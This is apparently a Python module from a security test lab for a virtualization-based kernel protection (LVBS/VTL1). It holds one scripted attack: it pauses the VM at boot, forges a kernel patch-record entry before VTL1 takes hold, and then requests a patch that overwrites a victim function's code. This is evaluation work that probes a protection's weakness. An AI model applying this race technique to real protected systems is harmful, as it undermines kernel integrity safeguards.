"""What is forged while the kernel starts, before VTL1 holds it to anything."""

from __future__ import annotations

from vtlab.client.driver import READY, Driver
from vtlab.client.machine import Machine
from vtlab.client.serial import SerialReader
from vtlab.client.symbols import Symbols
from vtlab.errors import TimedOut, WrongState
from vtlab.services import PATCH_RECORD
from vtlab.v1 import vmm_pb2
from vtlab_attacks.evidence import Attack, Attempts, Evidence, observe
from vtlab_attacks.guest import BOOT_TIMEOUT
from vtlab_attacks.kernel_memory import VICTIM
from vtlab_attacks.state import memory, show_bytes

SITE = "patch_site_audit"
FORGED = bytes.fromhex("b8ad0b0000")  # mov $0xbad, %eax
TRIES = 20


def forge(machine: Machine, gpa: int, data: bytes) -> SerialReader:
    """Resets, and writes while the kernel has not asked for VTL1 yet; what it says from then on.

    Raises:
        TimedOut: it was too fast each time.
    """
    for _ in range(TRIES):
        machine.reset()
        machine.pause()
        if not machine.info().vtl1_enabled:
            machine.write_memory(gpa, data)
            log = machine.serial_reader(0, from_now=True)
            machine.resume()
            return log
        machine.resume()
    raise TimedOut(f"machine '{machine.name}'", f"VTL1 was enabled before the pause, {TRIES} times")


def forge_symbols(machine: Machine, _driver: Driver, symbols: Symbols) -> Evidence:
    """The list says which symbol's code may become what; the attacker's entry comes in place of the kernel's."""
    patches, victim = symbols.sections[".patches"], symbols.physical(VICTIM)
    records = [patches.data[at : at + PATCH_RECORD.size] for at in range(0, patches.size, PATCH_RECORD.size)]
    number = next(i for i, one in enumerate(records) if PATCH_RECORD.unpack(one)[0] == symbols[SITE])
    entry = PATCH_RECORD.pack(symbols[SITE], 0, len(FORGED), FORGED)
    halted: list[bytes | None] = []

    def steps(attempts: Attempts) -> None:
        log = forge(machine, patches.physical + number * PATCH_RECORD.size, entry)
        try:
            log.read_until(READY, BOOT_TIMEOUT)
        except WrongState as stopped:
            attempts.note(machine.info().reason or str(stopped))
            halted.append(memory(machine, victim))
            machine.reset()  # what the attacker left is gone: the kernel starts as ever
            machine.wait_state(vmm_pb2.MACHINE_STATE_RUNNING)
            log.read_until(READY, BOOT_TIMEOUT)
            return
        attempts.step(Driver(machine).patch, symbols[SITE], FORGED)

    return observe(
        f"code of {VICTIM}",
        lambda: halted[0] if halted else memory(machine, victim),
        steps,
        symbols,
        lambda _, after: after is not None and after.startswith(FORGED),
        show_bytes,
    )


TRANSITION_ATTACKS = [
    Attack(
        "symbols-forged-at-boot",
        "While the kernel starts, changes its list of symbols whose code may be patched, then asks for that",
        "LVBS: LOAD_KDATA takes symbols and patches from the kernel that starts",
        forge_symbols,
    ),
]
